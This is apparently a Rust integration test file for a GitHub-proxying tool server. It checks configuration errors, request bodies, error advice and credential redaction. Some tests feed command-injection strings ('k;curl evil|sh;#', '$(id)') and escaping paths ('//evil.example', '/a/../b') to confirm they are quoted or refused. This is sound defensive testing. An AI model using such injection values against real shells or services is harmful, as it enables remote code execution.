//! The tools: their configuration, their requests, and their advice.

use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};
#[cfg(unix)]
use std::{ffi::OsStr, os::unix::ffi::OsStrExt as _};

use nexus_sdk::testing::{DevGateway, Fault, Provider};
use serde_json::{Value, json};

use crate::client::Client;
use crate::command;

pub(crate) fn configured(gateway: &DevGateway) -> Command {
    let mut command = command();
    command.env("NEXUS_GATEWAY_URL", gateway.url());
    command.env("UPSTREAM_URL", gateway.url());
    command.env("WORKSPACE_ID", "it's mine");
    command.env("PROVIDER", "github");
    command
}

/// Waits until the gateway has received that many requests for a path.
pub(crate) fn wait_for(gateway: &DevGateway, path: &str, count: usize) {
    let start = Instant::now();
    while gateway.count(path) < count {
        assert!(start.elapsed() < Duration::from_secs(20));
        thread::sleep(Duration::from_millis(1));
    }
}

fn connected() -> (DevGateway, Client) {
    let gateway = DevGateway::builder().connection("it's mine", "github");
    let gateway = gateway.start().unwrap();
    let client = Client::start(&mut configured(&gateway)).begin("2025-11-25");
    (gateway, client)
}

#[test]
fn wrong_configuration_is_one_clear_line() {
    let gateway = DevGateway::start().unwrap();
    let (url, other) = ("UPSTREAM_URL", "NEXUS_GATEWAY_URL");
    for (name, value, hint) in [
        (other, " ", other),
        (other, "gateway", "gateway_url"),
        ("WORKSPACE_ID", " ", "WORKSPACE_ID"),
        ("PROVIDER", " ", "PROVIDER"),
        (url, "", url),
        (url, "api.example.com", url),
        (url, "ftp://api.example.com", url),
        (url, "https://me:secret@api.example.com", url),
        (url, "https://api.example.com?x=1", url),
        (url, "https://api.example.com/#x", url),
        ("NEXUS_LOCK_DIR", "relative/locks", "NEXUS_LOCK_DIR"),
    ] {
        let said = problem_of(configured(&gateway).env(name, value));
        assert!(said.contains(hint) && !said.contains("secret"), "{said}");
    }
    #[cfg(unix)]
    for name in ["NEXUS_API_KEY", "WORKSPACE_ID", "SCOPES"] {
        let said = problem_of(configured(&gateway).env(name, OsStr::from_bytes(b"caf\xe9")));
        assert!(said.contains(&format!("{name} is not UTF-8")), "{said}");
    }
    let said = problem_of(&mut command());
    let all = "NEXUS_GATEWAY_URL, WORKSPACE_ID, PROVIDER, UPSTREAM_URL";
    assert!(said.contains(all), "{said}");
    problem_of(command().arg("--no-such"));
}

/// Runs a server that does not start, and returns its line on stderr.
fn problem_of(server: &mut Command) -> String {
    let output = server.output().unwrap();
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(
        (output.status.code(), said.lines().count()),
        (Some(2), 1),
        "{said}"
    );
    assert!(output.stdout.is_empty());
    said
}

#[test]
fn the_tools_return_what_the_api_says() {
    let (gateway, mut client) = connected();
    let listed = client.ask("tools/list", json!({}))["result"]["tools"].take();
    assert_eq!(listed.as_array().unwrap().len(), 4);
    let repos = client.text("list_repos", &json!({"limit": 2})).unwrap();
    let repos: Value = serde_json::from_str(&repos).unwrap();
    assert_eq!(repos["repositories"].as_array().unwrap().len(), 2);
    assert!(client.user().unwrap().contains("it's mine"));
    let created = json!({"method": "POST", "path": "/user/repos", "body": {"name": "new"}});
    assert!(client.text("fetch", &created).unwrap().contains("\"new\""));
    let listed = json!({"path": "/user/repos?per_page=1"});
    let listed = client.text("fetch", &listed).unwrap();
    assert!(listed.contains("hello-world"), "{listed}");
    assert_eq!(gateway.count("/v1/resolve"), 1);
}

/// A body is JSON in a string, and some models send the object itself. A `null` inside the body is the API's.
#[test]
fn a_body_can_be_a_string_with_json() {
    let (gateway, mut client) = connected();
    let body = json!({"name": "7", "private": null, "nested": {"a": "1", "b": [null]}});
    for sent in [
        body.clone(),
        json!(body.to_string()),
        json!(format!(" {body:#}\n")),
    ] {
        let created = json!({"method": "Post", "path": "/user/repos", "body": sent});
        assert!(client.text("fetch", &created).is_ok());
        let received = gateway.requests().pop().unwrap().body;
        let received: Value = serde_json::from_slice(&received).unwrap();
        assert_eq!(received, body);
    }
    // Models fill in optional objects, but some APIs refuse a body of a GET.
    let (empty, list) = (json!({}), json!([]));
    for (method, body, sent) in [
        ("POST", &json!("[1, null]"), "[1,null]"),
        ("POST", &empty, "{}"),
        ("GET", &empty, ""),
        ("HEAD", &list, ""),
        ("DELETE", &json!("{}"), ""),
        ("GET", &json!([0]), "[0]"),
    ] {
        let arguments = json!({"method": method, "path": "/user/repos", "body": body});
        let _ = client.text("fetch", &arguments);
        let received = gateway.requests().pop().unwrap();
        assert_eq!(received.body, sent.as_bytes(), "{arguments}");
    }
}

#[test]
fn a_tool_without_required_arguments_has_an_optional_one() {
    let (gateway, mut client) = connected();
    for (arguments, path) in [
        (json!({}), "/user"),
        (json!({"login": "null"}), "/user"),
        (json!({"login": "octo/cat"}), "/users/octo%2Fcat"),
        (json!({"login": "none"}), "/users/none"),
    ] {
        let _ = client.text("get_user", &arguments);
        assert_eq!(gateway.requests().pop().unwrap().path, path, "{arguments}");
    }
}

#[test]
fn a_tool_writes() {
    let path = "/user/starred/octo%2Fcat/a%20b";
    let gateway = DevGateway::builder()
        .connection("it's mine", "github")
        .upstream_route("PUT", path, 204, "text/plain", "")
        .start()
        .unwrap();
    let mut client = Client::start(&mut configured(&gateway)).begin("2025-11-25");
    let mut star = |owner: &str, repository: &str| {
        let starred = json!({"owner": owner, "repository": repository});
        client.text("star", &starred)
    };
    let said = star("octo/cat", "a b").unwrap();
    assert_eq!(said, "HTTP 204 No Content, no body");
    assert_eq!(gateway.requests().pop().unwrap().method, "PUT");
    assert!(star("octo", "none").unwrap_err().contains("HTTP 404"));
    // Segments of dots would leave the path.
    assert!(star("..", "..").unwrap_err().contains("invalid_input"));

    let starred = json!({"owner": "demo", "repository": "hello-world"});
    assert!(Client::of("2025-11-25").text("star", &starred).is_ok());
}

/// `src/fetch/scope/tests.rs` shows which paths lead out of the API.
#[test]
fn a_path_does_not_leave_the_api() {
    let (gateway, mut client) = connected();
    let own = format!("{}/user", gateway.url());
    let (relative, refused) = ("must begin with a slash", "provider \"github\": url: ");
    for (path, expected) in [
        ("user", relative),
        ("?x", relative),
        ("http://evil.example/", relative),
        (&own, relative),
        ("//evil.example", refused),
        ("/a/../b", refused),
    ] {
        let problem = client.text("fetch", &json!({"path": path})).unwrap_err();
        assert!(problem.contains(expected), "{path}: {problem}");
    }
    assert_eq!(gateway.count(""), 0);
}

#[test]
fn failures_say_what_to_do() {
    let gateway = DevGateway::start().unwrap();
    let connection = gateway.connect("it's mine", "github").unwrap();
    let mut command = configured(&gateway);
    command.env("CONNECT", "off");
    command.env("SCOPES", "repo,\r\n user:email");
    let mut client = Client::start(&mut command).begin("2025-11-25");
    let connect = format!(
        "NEXUS_GATEWAY_URL={} nexus connect --workspace='it'\\''s mine' --provider=github --scope=repo --scope=user:email",
        gateway.url()
    );
    for status in ["attention", "revoked", "pending"] {
        gateway.set_status(&connection, status);
        let problem = client.user().unwrap_err();
        let is_clear = problem.contains("has to connect github") && problem.contains(&connect);
        assert!(is_clear, "{problem}");
    }
    gateway.set_status(&connection, "active");
    let limit = |status| Fault::RetryAfter {
        status,
        value: "9".into(),
    };
    let (resolve, user) = ("/v1/resolve", "/user");
    let missing = Fault::reply(404, "text/plain", "no such");
    for (path, times, fault, expected) in [
        (resolve, 1, Fault::Status(503), "Retry in a moment"),
        (resolve, 1, limit(429), "Retry in 9 s"),
        (resolve, 1, Fault::Status(401), "check NEXUS_API_KEY"),
        (user, 1, missing, "HTTP 404 Not Found. Check the path"),
        (user, 1, Fault::Status(403), "more scopes"),
        (
            user,
            1,
            limit(429),
            "Too many requests. Retry later (Retry-After: 9)",
        ),
        (
            user,
            1,
            limit(403),
            "Too many requests, or the user lacks a permission. Retry later (Retry-After: 9)",
        ),
        (
            user,
            1,
            limit(503),
            "The API failed. Retry later (Retry-After: 9)",
        ),
        (user, 1, Fault::Status(500), "Retry later"),
        (user, 1, Fault::Status(302), "HTTP 302"),
        (user, 2, Fault::Status(401), "connect the account again"),
    ] {
        gateway.fail_next_at(path, times, fault);
        let problem = client.user().unwrap_err();
        assert!(problem.contains(expected), "{problem}");
    }
}

/// Runs the command in a shell, in which `nexus` prints its arguments.
#[cfg(unix)]
#[test]
fn a_command_in_an_advice_is_quoted_for_a_shell() {
    let words = [
        "k;curl evil|sh;#",
        "$(id) `id`",
        "-x",
        r#"it's "\*?~&>{a,b}"#,
        "a\tb",
    ];
    let missing = r#"{"error": "connection_not_found"}"#;
    for word in words {
        let gateway = DevGateway::start().unwrap();
        let missing = Fault::reply(404, "application/json", missing);
        gateway.fail_next_at("/v1/resolve", 1, missing);
        let mut command = configured(&gateway);
        command.env("CONNECT", "off");
        command.env("SCOPES", "-y k;curl|sh;#");
        command.env("WORKSPACE_ID", word).env("PROVIDER", word);
        let mut client = Client::start(&mut command).begin("2025-11-25");
        let problem = client.user().unwrap_err();
        let (_, advised) = problem.split_once("Run: ").expect(&problem);
        let script = format!("nexus() {{ printf '%s\\n' \"$@\"; }}; {advised}");
        let ran = Command::new("sh").args(["-c", &script]).output().unwrap();
        let expected = format!(
            "connect\n--workspace={word}\n--provider={word}\n--scope=-y\n--scope=k;curl|sh;#\n"
        );
        assert_eq!(String::from_utf8(ran.stdout).unwrap(), expected);
    }
}

#[test]
fn responses_that_do_not_fit_a_tools_schema_are_errors() {
    let (gateway, mut client) = connected();
    let responses = [
        ("list_repos", "", "is not JSON"),
        ("list_repos", "<html>", "is not JSON"),
        ("list_repos", "{}", "\"repositories\" must be an array"),
        ("list_repos", "[{}, 1]", "item 1 must be an object"),
        ("get_user", "[]", "must be an object"),
    ];
    for (tool, body, expected) in responses {
        let fault = Fault::reply(200, "application/json", body);
        gateway.fail_next_at("/user", 1, fault);
        let problem = client.text(tool, &json!({})).unwrap_err();
        assert!(problem.contains(expected), "{body}: {problem}");
    }
}

#[test]
fn a_body_that_is_not_utf_8_is_described() {
    let (gateway, mut client) = connected();
    let latin = "text/html; charset=iso-8859-1";
    for (content_type, shown) in [(latin, latin), ("", "none")] {
        gateway.fail_next_at("/user", 1, Fault::reply(200, content_type, b"caf\xe9"));
        let text = client.text("fetch", &json!({"path": "/user"})).unwrap();
        let expected = format!("(4 bytes that are not UTF-8 text; Content-Type: {shown})");
        assert_eq!(text, expected);
    }
}

/// `tests/sdk/base_url.rs` shows that only the base has placeholders for a credential.
#[test]
fn a_model_does_not_place_the_credential() {
    let bots = Provider::api_key("bots").strategy(json!({"type": "path"}));
    let gateway = DevGateway::builder().provider(bots);
    let gateway = gateway.connection("it's mine", "bots").start().unwrap();
    let base = format!("{}/bot{{api_key}}", gateway.url());
    let mut command = configured(&gateway);
    command.env("PROVIDER", "bots").env("UPSTREAM_URL", base);
    let mut client = Client::start(&mut command).begin("2025-11-25");
    let (Ok(text) | Err(text)) = client.text("fetch", &json!({"path": "/{api_key}"}));
    let sent = gateway.requests().pop().unwrap().path;
    let key = sent.strip_prefix("/bot").unwrap();
    let key = key.strip_suffix("/%7Bapi_key%7D").unwrap();
    assert!(key.len() > 8 && !key.contains('/') && !text.contains(key));
}

/// `tests/sdk/hide.rs` shows which credentials are hidden.
#[test]
fn no_response_holds_a_credential() {
    let (gateway, mut client) = connected();
    assert!(client.user().is_ok());
    let sent = gateway.requests().pop().unwrap().headers["authorization"].clone();
    let token = sent.to_str().unwrap().trim_start_matches("Bearer ");
    for status in [200, 500] {
        let fault = Fault::reply(status, "text/plain", format!("you sent {token}!"));
        gateway.fail_next_at("/user", 1, fault);
        let (Ok(text) | Err(text)) = client.text("fetch", &json!({"path": "/user"}));
        assert!(text.contains("you sent [credential]!"), "{text}");
    }
}
